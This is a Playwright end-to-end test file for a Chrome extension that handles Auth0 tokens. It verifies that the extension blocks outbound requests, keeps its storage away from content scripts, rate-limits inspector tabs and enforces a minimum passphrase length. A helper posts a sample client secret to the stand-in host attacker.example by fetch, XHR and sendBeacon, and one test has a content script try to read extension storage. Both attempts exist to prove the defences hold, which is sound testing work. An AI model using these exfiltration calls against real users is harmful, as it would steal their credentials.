// End-to-end proofs of issue 13 (security gaps) in real Chromium with dist/chrome against the emulator:
// extension pages cannot make requests at all (meta CSP connect-src 'self'); the worker's fetch adapter refuses
// a host no profile grants before anything leaves; a content script cannot read storage.local (TRUSTED_CONTEXTS)
// nor open inspector tabs without limit; the Options vault setup refuses short passphrases and shows the
// offline guess time. Every request the emulator sees is logged: attacker.example must see none.
import type { Page } from 'playwright-core';

declare const chrome: { action: { getBadgeText(d: object): Promise<string> }; storage: { session: { get(k: null): Promise<Record<string, unknown>>; set(v: object): Promise<void> }; local: { get(k: string): Promise<Record<string, unknown>> } } };
import { expect, test, withTimeout } from './fixtures';
import { OptionsPage, sendFromPage } from './pages/options';
import { ContentWorld } from './pages/content-world';
import { PopupPage } from './pages/popup';

const FOREIGN = 'attacker.example';
const foreignHits = (requests: { host: string }[]) => requests.filter((r) => r.host === FOREIGN);

/** Every way a page could send data out, each to attacker.example; returns how each one ended. */
async function tryToLeak(page: Page): Promise<Record<string, string>> {
  return withTimeout(
    page.evaluate(async (host) => {
      const out: Record<string, string> = {};
      const body = 'client_secret=would-leak';
      await fetch(`https://${host}/from-page-fetch`, { method: 'POST', body, mode: 'no-cors' }).then(
        () => (out.fetch = 'sent'),
        (e: Error) => (out.fetch = `refused: ${e.name}`),
      );
      await fetch('https://demo.us.auth0.com/.well-known/jwks.json').then(
        () => (out.auth0 = 'sent'),
        (e: Error) => (out.auth0 = `refused: ${e.name}`),
      );
      out.xhr = await new Promise<string>((resolve) => {
        const x = new XMLHttpRequest();
        x.onload = () => resolve('sent');
        x.onerror = () => resolve('refused');
        try {
          x.open('POST', `https://${host}/from-page-xhr`);
          x.send(body);
        } catch {
          resolve('refused');
        }
      });
      out.beacon = navigator.sendBeacon(`https://${host}/from-page-beacon`, body) ? 'queued' : 'refused';
      await new Promise((r) => setTimeout(r, 800));
      return out;
    }, FOREIGN),
    15_000,
    'trying to send requests from the page',
  );
}

test('extension pages (popup, options, inspector) cannot send a request to any host', async ({ emulator, extension }) => {
  const pages = [await extension.openPopup(), await extension.context.newPage(), await extension.openInspector()];
  await pages[1]!.goto(OptionsPage.url(extension.extensionId));
  emulator.clearLog();
  for (const page of pages) {
    const outcome = await tryToLeak(page);
    expect(outcome.fetch, page.url()).toMatch(/^refused/);
    expect(outcome.auth0, page.url()).toMatch(/^refused/); // not even Auth0: only the worker talks to the network
    expect(outcome.xhr, page.url()).toBe('refused');
  }
  await pages[0]!.waitForTimeout(500);
  expect(foreignHits(emulator.requests)).toEqual([]);
  expect(emulator.requests.filter((r) => r.path.includes('jwks'))).toEqual([]);
});

test('the worker refuses a host that no profile grants before anything leaves (profile test, mint, verify)', async ({ emulator, extension }) => {
  const { seed } = emulator;
  const popup = await extension.openPopup();
  await sendFromPage(popup, 'vault.setup', { mode: 'session' });
  const saved = await sendFromPage<{ id: string; needsHostPermission?: string }>(popup, 'profiles.save', {
    label: 'Custom', domain: seed.domain, customDomain: FOREIGN, environment: 'development',
    clientId: seed.clients.granted.clientId, clientSecret: seed.clients.granted.clientSecret,
  });
  expect(saved).toMatchObject({ ok: true, data: { needsHostPermission: `https://${FOREIGN}/*` } });
  emulator.clearLog();
  const tested = await sendFromPage(popup, 'profiles.test', { profileId: saved.data!.id });
  expect(tested).toMatchObject({ ok: false, error: { code: 'ERR_HOST_NOT_ALLOWED' } });
  const minted = await sendFromPage(popup, 'mint.request', { profileId: saved.data!.id, mode: 'client-credentials', scopes: [] });
  expect(minted).toMatchObject({ ok: false });
  // A token whose issuer is that custom domain: the profile names it, but the host was never granted.
  const b64 = (v: object) => Buffer.from(JSON.stringify(v)).toString('base64url');
  const token = `${b64({ alg: 'RS256', kid: 'k' })}.${b64({ iss: `https://${FOREIGN}/`, exp: 4102444800 })}.c2ln`;
  const verified = await sendFromPage<{ state: string }>(popup, 'verify.token', { token, explicit: true });
  expect(verified.data?.state).toBe('jwks-unreachable');
  await popup.waitForTimeout(300);
  expect(foreignHits(emulator.requests)).toEqual([]);
});

test('a content script cannot read the vault in storage.local (TRUSTED_CONTEXTS)', async ({ extension }) => {
  const options = await extension.context.newPage();
  await options.goto(OptionsPage.url(extension.extensionId));
  await new OptionsPage(options).setupPassphrase('correct horse battery staple');
  const own = await options.evaluate(() => chrome.storage.local.get('vault'));
  expect(own['vault']).toMatchObject({ mode: 'passphrase' }); // the extension's own pages still can

  const page = await extension.context.newPage();
  await page.goto('https://manage.auth0.com/dashboard/us/demo/apis/management/explorer');
  const world = await ContentWorld.attach(page, extension.extensionId);
  try {
    const got = await world.eval<string>("chrome.storage.local.get(null).then((all) => JSON.stringify(all), (e) => 'refused: ' + e.message)");
    expect(got).toMatch(/^refused|thrown/);
    expect(JSON.stringify(got)).not.toContain('verifier');
    const session = await world.eval<string>("chrome.storage.session.get(null).then((all) => JSON.stringify(all), (e) => 'refused: ' + e.message)");
    expect(JSON.stringify(session)).toMatch(/refused|thrown/);
  } finally {
    await world.detach();
  }
});

test('a content script cannot open inspector tabs without limit (10 a minute per tab)', async ({ extension }) => {
  const page = await extension.context.newPage();
  await page.goto('https://manage.auth0.com/dashboard/us/demo/apis/management/explorer');
  const world = await ContentWorld.attach(page, extension.extensionId);
  const inspectorTabs = () => extension.context.pages().filter((p) => p.url().includes('/src/inspector/')).length;
  try {
    const replies = await world.eval<{ ok: boolean; error?: { code: string } }[]>(`(async () => {
      const out = [];
      for (let i = 0; i < 25; i++) out.push(await chrome.runtime.sendMessage({ type: 'inspector.open', payload: { token: 'eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0.c2ln' } }));
      return out;
    })()`);
    expect(replies.filter((r) => r.ok)).toHaveLength(10);
    expect(replies.slice(10).every((r) => r.error?.code === 'ERR_RATE_LIMITED')).toBe(true);
    await page.waitForTimeout(500);
    expect(inspectorTabs()).toBe(10);
  } finally {
    await world.detach();
  }
});

test('Options refuses a passphrase under 12 characters and shows the offline guess time', async ({ extension }) => {
  const page = await extension.context.newPage();
  await page.setViewportSize({ width: 900, height: 700 });
  await page.goto(OptionsPage.url(extension.extensionId));
  const options = new OptionsPage(page);
  await options.typeNewPassphrase('short pass');
  await expect.poll(() => options.passphraseProblem.textContent()).toContain('Use at least 12 characters (10 so far)');
  await expect(options.guessTime.textContent()).resolves.toMatch(/PBKDF2-SHA256, 600,000 iterations/);
  await expect(options.button('Create vault').isDisabled()).resolves.toBe(true);
  // The background refuses it too, whatever a page sends.
  expect(await sendFromPage(page, 'vault.setup', { mode: 'passphrase', passphrase: 'short pass' })).toMatchObject({ ok: false, error: { code: 'ERR_INVALID_MESSAGE' } });
  await options.typeNewPassphrase('correct horse battery staple');
  await expect(options.guessTime.textContent()).resolves.toMatch(/years|universe/);
  await expect(options.button('Create vault').isEnabled()).resolves.toBe(true);
  await extension.screenshot('vault-passphrase-strength', page);
});

test('a copied token is cleared from the clipboard 30 s later by the background, after the popup closed', async ({ emulator, extension }) => {
  const { seed } = emulator;
  const token = await emulator.mintAccessToken({ clientId: seed.clients.granted.clientId, audience: seed.managementAudience });
  const reader = await extension.context.newPage();
  await reader.goto('https://manage.auth0.com/dashboard/us/demo/apis/management/explorer');
  await extension.context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: 'https://manage.auth0.com' });
  const clipboard = async () => {
    await reader.bringToFront();
    return withTimeout(reader.evaluate(() => navigator.clipboard.readText()), 5_000, 'reading the clipboard');
  };

  const popup = new PopupPage(await extension.openPopup());
  await popup.paste(token);
  await expect(popup.copyTheToken()).resolves.toBe('Copied');
  const copiedAt = Date.now();
  await popup.page.close();
  expect(await clipboard()).toBe(token);
  // The alarm fires 30 s after the copy; Chrome's alarm clock is coarse, so allow a little more.
  await reader.waitForTimeout(Math.max(0, copiedAt + 31_000 - Date.now()));
  const deadline = Date.now() + 15_000;
  let now = await clipboard();
  while (now === token && Date.now() < deadline) {
    await reader.waitForTimeout(1_000);
    now = await clipboard();
  }
  expect(now).toBe('');
}, 90_000);

test('"Lock now" also removes the pinned token, uncollected hand-offs and the toolbar badge (SECURITY B5.47)', async ({ emulator, extension }) => {
  const { seed } = emulator;
  const token = await emulator.mintAccessToken({ clientId: seed.clients.granted.clientId, audience: seed.managementAudience });
  const popup = await extension.openPopup();
  expect(await sendFromPage(popup, 'vault.setup', { mode: 'passphrase', passphrase: 'correct horse battery staple' })).toMatchObject({ ok: true });
  expect(await sendFromPage(popup, 'inspect.pin', { token })).toMatchObject({ ok: true, data: { pinned: true } });
  await extension.evalInWorker((t) => chrome.storage.session.set({ 'handoff:AAAAAAAAAAAAAAAAAAAAAA': { token: t, tabId: 999, createdAt: Date.now() } }), token, 'adding a hand-off');
  const before = await extension.evalInWorker(() => chrome.storage.session.get(null), undefined, 'reading session');
  expect(JSON.stringify(before)).toContain(token);
  expect(await extension.evalInWorker(() => chrome.action.getBadgeText({}), undefined, 'reading the badge')).not.toBe('');

  expect(await sendFromPage(popup, 'vault.lock', {})).toMatchObject({ ok: true, data: { locked: true } });
  const after = await extension.evalInWorker(() => chrome.storage.session.get(null), undefined, 'reading session');
  expect(JSON.stringify(after)).not.toContain(token);
  expect(await extension.evalInWorker(() => chrome.action.getBadgeText({}), undefined, 'reading the badge')).toBe('');
});

test('settings written from two pages at once both survive, and an open page re-themes through storage.onChanged (SECURITY B7.59)', async ({ extension }) => {
  const popup = await extension.openPopup();
  const inspector = await extension.openInspector();
  for (const [theme, minutes] of [['dark', 7], ['light', 9], ['dark', 11]] as const) {
    await Promise.all([sendFromPage(popup, 'settings.setTheme', { theme }), sendFromPage(inspector, 'vault.setAutoLock', { minutes })]);
    const stored = await extension.evalInWorker(() => chrome.storage.local.get('settings'), undefined, 'reading settings');
    expect(stored['settings']).toMatchObject({ theme, autoLockMinutes: minutes });
  }
  // The inspector did not write the theme, yet follows it.
  await inspector.waitForFunction(() => document.documentElement.dataset['theme'] === 'dark', undefined, { timeout: 5_000 });
});
